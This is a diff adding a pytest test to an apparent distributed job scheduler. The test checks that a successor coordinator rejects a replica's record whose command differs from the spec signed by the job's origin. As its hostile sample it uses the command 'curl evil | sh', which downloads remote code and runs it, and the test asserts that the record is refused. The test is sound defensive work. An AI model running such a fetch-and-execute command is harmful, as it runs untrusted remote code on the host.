@@ -226,3 +226,35 @@ async def test_a_replica_store_that_cannot_write_does_not_stop_the_job(tmp_path)
     jobs.replication.store.put = broken
     run = await finished(jobs, JobSpec(cmd=("python", "x.py"), nodes=2, max_restarts=1))
     assert run.state == "succeeded"
+
+
+def test_a_successor_takes_over_only_the_spec_its_origin_signed(tmp_path):
+    """A hostile replica coordinating at its epoch writes a record with another command: the
+    next successor refuses to go on from it (the charter binds the spec's digest), and a
+    record true to the charter is rebuilt whole, its owner the charter's."""
+    import msgpack
+    import pytest
+
+    from swarmd.compute.coordinator.run import Run
+    from swarmd.compute.succession import Charter, Record, spec_digest
+
+    from .test_succession import PEER, sign
+
+    jobs = jobs_over(tmp_path, World(set()), (PEER["h2"], PEER["h3"]))
+    jobs.gossip.me = PEER["h3"]
+    spec = JobSpec(cmd=("python", "train.py"), nodes=2, max_restarts=1)
+    charter = Charter.make(origin=PEER["o"], job="0123456789ab", owner_uid=1000, spec=spec_digest(spec.to_wire()),
+                           hosts=[PEER["h2"], PEER["h3"]], sign=sign("o"))
+
+    def record(cmd: tuple[str, ...]) -> Record:
+        state = {"run": Run(job="0123456789ab", max_restarts=1).to_wire(),
+                 "spec": JobSpec(cmd=cmd, nodes=2, max_restarts=1).to_wire(), "workdir": None, "ray": None,
+                 "name": None, "created": 1.0, "started": None, "checkpoints": [], "since": 1.0}
+        return Record.make(charter, 1, 7, msgpack.packb(state), sign("h2"))  # epoch 1 is h2's
+
+    with pytest.raises(ValueError, match="not the spec its origin signed"):
+        jobs._rebuild(record(("sh", "-c", "curl evil | sh")), 2)
+    live = jobs._rebuild(record(("python", "train.py")), 2)
+    assert live.spec.cmd == ("python", "train.py") and live.auth.epoch == 2 and live.auth.origin == PEER["o"]
+    row = jobs.handed.get("0123456789ab")
+    assert row is not None and row.submitted_by == 1000 and row.coordinator == PEER["o"]
